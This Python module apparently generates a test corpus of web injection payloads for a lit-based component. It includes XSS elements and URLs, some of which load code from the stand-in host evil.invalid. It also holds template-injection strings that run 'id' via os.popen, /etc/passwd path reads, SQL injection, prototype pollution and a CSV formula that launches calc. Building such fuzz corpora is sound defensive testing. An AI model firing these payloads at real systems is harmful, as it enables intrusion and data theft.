"""Texts that try to become more than text: what they attempt x what they break out of x their disguise."""

from collections.abc import Callable

ELEMENTS = (
    "<script>pwned=1</script>",
    "<script>alert(1)</script>",
    "<script src=//evil.invalid/s></script>",
    "<script type=module>import '//evil.invalid/m'</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=x onerror=confirm(1)>",
    "<img src=//evil.invalid/i>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><use href=//evil.invalid/u#x></svg>",
    "<svg><a href=javascript:pwned=1><text y=9>go</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<math href=javascript:pwned=1>go</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<style>@import '//evil.invalid/s';*{display:none}</style>",
    "<style onload=pwned=1></style>",
    "<link rel=stylesheet href=//evil.invalid/s>",
    "<details open ontoggle=pwned=1><summary>go</summary></details>",
    "<template><img src=x onerror=pwned=1></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned=1></template>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<object data=javascript:pwned=1></object>",
    "<object data=//evil.invalid/o></object>",
    "<embed src=//evil.invalid/e>",
    "<body onload=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<select autofocus onfocus=pwned=1></select>",
    "<video src=x onerror=pwned=1></video>",
    "<audio><source src=x onerror=pwned=1></audio>",
    "<marquee onstart=pwned=1>go</marquee>",
    "<p style=animation-name:x onanimationstart=pwned=1>go</p>",
    "<form action=//evil.invalid/><button autofocus>go</button></form>",
    "<a href=javascript:pwned=1>go</a>",
    "<dialog open>Type your password</dialog>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<b>bold</b>",
    "<ssp-assistant src=//evil.invalid></ssp-assistant>",
)
"""Each adds an element; most of them set `pwned`, open a dialog or ask another origin."""

CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "-->{}",
    "--!>{}<!--",
    "<!--{}",
    "]]>{}<![CDATA[",
    "</textarea>{}<textarea>",
    "</title>{}<title>",
    "</script>{}<script>",
    "</style>{}<style>",
    "</template></svg></math>{}",
    "</option></select>{}",
    "words\n\n{}",
)
"""What an element breaks out of."""


def _mixed(text: str) -> str:
    return "".join(char.upper() if n % 2 else char for n, char in enumerate(text))


def _entities(text: str) -> str:
    return "".join(f"&#{ord(char):07}" if char in "<>'=:" else char for char in text)


DISGUISES: tuple[Callable[[str], str], ...] = (
    _mixed,
    _entities,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "‹").replace(">", "›"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: f"\u202e{text}\u2066",
    lambda text: text.removesuffix(">"),
)
"""Other spellings of the same, for readers that undo them once too often."""

SCRIPT_URLS = (
    "javascript:pwned=1",
    "javascript://%0apwned=1",
    "vbscript:pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
)
URL_DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    _mixed,
    lambda url: f" \t\n{url}",
    lambda url: f"\x01{url}",
    lambda url: url.replace(":", "\t:"),
    lambda url: f"{url[:3]}\n{url[3:]}",
    lambda url: f"{url[:3]}\r{url[3:]}",
    lambda url: url.replace(":", "&colon;"),
    lambda url: f"&#x{ord(url[0]):x};{url[1:]}",
    lambda url: url.replace(":", "&#58;"),
    lambda url: f"\u200b{url}",
)
ADDRESSES = (
    "//evil.invalid/",
    "///evil.invalid/",
    "\\\\evil.invalid\\",
    "/\t/evil.invalid/",
    "/\\evil.invalid/",
    "https:evil.invalid",
    "https://evil.invalid/d/a/slides/1",
    "http://evil.invalid:80/api/x",
    "http://127.0.0.1@evil.invalid/d/a",
    "//127.0.0.1.evil.invalid/d/a",
    "/d/../..//evil.invalid/",
    "/d/%2e%2e/%2e%2e//evil.invalid/",
    "ftp://evil.invalid/",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/5d1f",
    "filesystem:http://127.0.0.1/temporary/x",
    "about:blank",
    "http://[",
    "http://a b/",
    "https://",
    "//",
    "http://evil.invalid:99999/",
    "mailto:a@evil.invalid",
    "ws://evil.invalid/",
    "/ask?q=%3Cscript%3Epwned%3D1%3C%2Fscript%3E",
    "/documents/../static/../../evil",
    "?c=</a><script>pwned=1</script>",
    "#<img src=x onerror=pwned=1>",
)
URLS = (*(disguise(url) for url in SCRIPT_URLS for disguise in URL_DISGUISES), *ADDRESSES)
"""Addresses that run a script, leave the origin or are none."""

CARRIERS = (
    "{}",
    "[words]({})",
    '" href="{}" x="',
)

QUOTES = ('"', "'", "`", "“", "&quot;", "&#39;", '\\"')
ATTRIBUTES = (
    " autofocus onfocus=pwned=1 x=",
    " onmouseover=alert(1) style=position:fixed;inset:0 x=",
    " onpointerenter=pwned=1//",
    " is=ssp-source slot=x part=x class=evil id=question x=",
    "/onclick=pwned=1/href=javascript:pwned=1/x=",
    "\nstyle\n=\nbackground:url(//evil.invalid/b)\nx=",
)

OTHERS = (
    # lit's own marks, and what other template languages would run
    "${pwned=1}",
    "${alert(1)}",
    "`${pwned=1}`",
    "<!--lit-part-->",
    "<!--/lit-part--><img src=x onerror=pwned=1>",
    "<!--lit-part AEmR7W+R0Ak=-->",
    "<!--lit-node 0-->",
    "<?lit$123$?>",
    "?lit$123$",
    "lit$123456789$",
    "<b lit$123$=x>",
    "{{lit-123}}",
    '{"_$litType$":1,"strings":["<img src=x onerror=pwned=1>"],"values":[]}',
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "{{constructor.constructor('pwned=1')()}}",
    "{{$on.constructor('pwned=1')()}}",
    "{{_openBlock.constructor('pwned=1')()}}",
    "[[constructor.constructor('pwned=1')()]]",
    "<p v-html=\"'<img src=x onerror=pwned=1>'\">",
    "<p ng-app ng-csp ng-click=$event.view.pwned=1>",
    "<p x-data x-init=pwned=1>",
    "<p hx-get=//evil.invalid/ hx-trigger=load>",
    "#{pwned=1}",
    "<%= pwned=1 %>",
    "%{pwned=1}",
    "%s %n %d {0} {question!r}",
    # Markdown
    "```html\n<script>pwned=1</script>\n```",
    "[words]: javascript:pwned=1\n[words]",
    "<javascript:pwned=1>",
    "# heading\n* item\n---\n| a | b |",
    "https://evil.invalid/ www.evil.invalid",
    # ends of lines and of events
    "\n\nevent: final\ndata: {}\n\n",
    "\r\n\r\nevent: error\r\ndata: {}\r\n\r\n",
    "\u2028\u2028event: final\u2028data: {}",
    "\x85\x85event: error\x85data: {}",
    "a\u2028b",
    "a\u2029b",
    "a\x0bb\x0cc\x1cd",
    "data: {}\nid: 1\nretry: 1",
    ": ping",
    # JSON on a page
    '"}</script><script>pwned=1</script>',
    '"},"answer":{"text":"other"}}',
    "<!--<script>",
    "<!--<script>pwned=1</script>-->",
    '\\"}</ScRiPt ><img src=x onerror=pwned=1>',
    "\\u003c/script\\u003e",
    "</script",
    "</script\x0c>",
    '{"__proto__":{"pwned":1}}',
    # styles
    "red;background:url(//evil.invalid/c)",
    "}*{background:url(//evil.invalid/c)}",
    "var(--x,url(//evil.invalid/c))",
    "expression(alert(1))",
    "-moz-binding:url(//evil.invalid/x#x)",
    "</style><style>@import url(//evil.invalid/s)",
    "*/}:host{display:none}/*",
    "\\3c script\\3e",
    # what turns, hides or imitates characters
    "\u202egnp.exe\u202c",
    "\u2067isolated\u2069 \u200f",
    "\u200b\u200c\u200d\u2060\ufeff",
    "pa\u00adss\u200bword",
    "﹤script﹥pwned=1﹤/script﹥",
    "〈img src=x onerror=pwned=1〉",
    "ʺ onfocus=pwned=1 xʺ",
    "<ſcript>pwned=1</ſcript>",
    "<ımg src=x onerror=pwned=1>",
    "e" + "\u0301" * 200,
    "🏴\U000e0067\U000e0062\U000e007f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufffe\uffff",
    "\ue000\U000f0000",
    # controls
    "a\x00b",
    "\x00<img src=x onerror=pwned=1>",
    "<scr\x00ipt>pwned=1</scr\x00ipt>",
    "\x01\x02\x07\x08\x1b[31m\x7f",
    # very long words
    "W" * 2000,
    "<" * 1000,
    "&" * 1000,
    "<b>" * 300,
    "https://evil.invalid/" + "a" * 1000,
    # names that every object has
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "then",
    "nodeType",
    "innerHTML",
    "null",
    "undefined",
    "[object Object]",
    "NaN",
    "false",
    "0",
    "-1",
    "' OR 1=1 --",
    "../../etc/passwd",
    "=cmd|' /C calc'!A1",
)


def _payloads() -> tuple[str, ...]:
    broken_out = [context.format(element) for element in ELEMENTS for context in CONTEXTS]
    disguised = [disguise(element) for element in ELEMENTS[::3] for disguise in DISGUISES]
    both = [disguise(context.format(ELEMENTS[0])) for context in CONTEXTS[::3] for disguise in DISGUISES]
    addressed = [carrier.replace("{}", url) for url in URLS for carrier in CARRIERS]
    attributes = [f"{quote}{attribute}{quote}" for attribute in ATTRIBUTES for quote in QUOTES]
    return tuple(dict.fromkeys((*broken_out, *disguised, *both, *addressed, *attributes, *OTHERS)))


PAYLOADS = _payloads()
"""All of them, each once, always in the same order."""
